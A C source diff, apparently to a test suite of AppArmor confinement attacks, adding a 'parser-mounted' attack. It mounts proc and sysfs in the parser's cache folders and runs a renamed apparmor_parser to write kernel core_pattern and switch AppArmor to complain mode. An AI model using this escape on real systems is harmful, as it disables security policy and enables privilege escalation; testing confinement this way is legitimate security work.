@@ -6,6 +6,7 @@
 #include <stdio.h>
 #include <string.h>
 #include <sys/prctl.h>
+#include <sys/mount.h>
 #include <sys/stat.h>
 #include <sys/wait.h>
 #include <unistd.h>
@@ -15,6 +16,7 @@
 
 #define ATTR "/proc/self/attr/apparmor/"
 #define PARSER "/usr/sbin/apparmor_parser"
+#define PARSER_CACHE "/var/cache/apparmor"
 #define PERMISSIVE ROOM "/permissive.blob"
 
 static int run_remove(void)
@@ -245,7 +247,7 @@ static int run_mode(void)
  * Policy may let apparmor_parser, by its path, do what nobody else may. So the attacker's program gets that path,
  * and tries every way to policy.
  */
-static int run_parser(void)
+static int start_parser(const char *word)
 {
 	int status = 0;
 	pid_t pid;
@@ -254,12 +256,46 @@ static int run_parser(void)
 		return errno;
 	pid = fork();
 	if (pid == 0) {
-		(void)execl(PARSER, PARSER, NULL);
+		(void)execl(PARSER, PARSER, word, NULL);
 		_exit(errno);
 	}
 	if (pid < 0 || waitpid(pid, &status, 0) != pid)
 		return errno;
 	return WEXITSTATUS(status);
+}
+
+static int run_parser(void)
+{
+	return start_parser(NULL);
+}
+
+/* The folders that it may write to are named by their paths, and others can be mounted there. */
+static int run_parser_mounted(void)
+{
+	static const char *const folders[] = { "/var", "/var/cache", PARSER_CACHE,
+					       PARSER_CACHE "/proc", PARSER_CACHE "/sys" };
+	int err;
+
+	for (size_t i = 0; i < sizeof(folders) / sizeof(folders[0]); i++)
+		(void)mkdir(folders[i], 0755);
+	if (mount("proc", PARSER_CACHE "/proc", "proc", 0, NULL) < 0 ||
+	    mount("sysfs", PARSER_CACHE "/sys", "sysfs", 0, NULL) < 0)
+		return errno;
+	if (rename(PARSER, PARSER ".kept") < 0)
+		return errno;
+	err = start_parser("mounted");
+	(void)rename(PARSER ".kept", PARSER);
+	return err;
+}
+
+static int write_mounted(void)
+{
+	int err = write_small(PARSER_CACHE "/proc/sys/kernel/core_pattern", ESCAPED_WORD);
+
+	(void)write_small(PARSER_CACHE "/sys/module/apparmor/parameters/audit", "noquiet");
+	return write_small(PARSER_CACHE "/sys/module/apparmor/parameters/mode", "complain") == 0
+		       ? 0
+		       : err;
 }
 
 static const char *prepare_parser(void)
@@ -269,13 +305,15 @@ static const char *prepare_parser(void)
 	return prepare_blob();
 }
 
-int guest_parser(void)
+int guest_parser(const char *word)
 {
 	static int (*const ways[])(void) = {
 		run_rmdir, run_remove, run_remove_above, run_replace_above, run_mode,
 	};
 	int err = EACCES;
 
+	if (word && !strcmp(word, "mounted"))
+		return write_mounted();
 	(void)write_canary(CANARY, O_WRONLY);
 	if (prepare_blob())
 		return ENOENT;
@@ -311,6 +349,8 @@ const struct attack policy_attacks[] = {
 	{ "namespace-rmdir", "rmdir of the policy namespace by policy/..", NULL, run_rmdir, LAST },
 	{ "parser-program", "domain transition to the profile of apparmor_parser", prepare_parser,
 	  run_parser, LAST },
+	{ "parser-mounted", "the profile of apparmor_parser, over proc and sysfs in its folders",
+	  prepare_parser, run_parser_mounted, 0 },
 	{ "remove", "apparmorfs .remove", NULL, run_remove, LAST },
 	{ .name = NULL },
 };
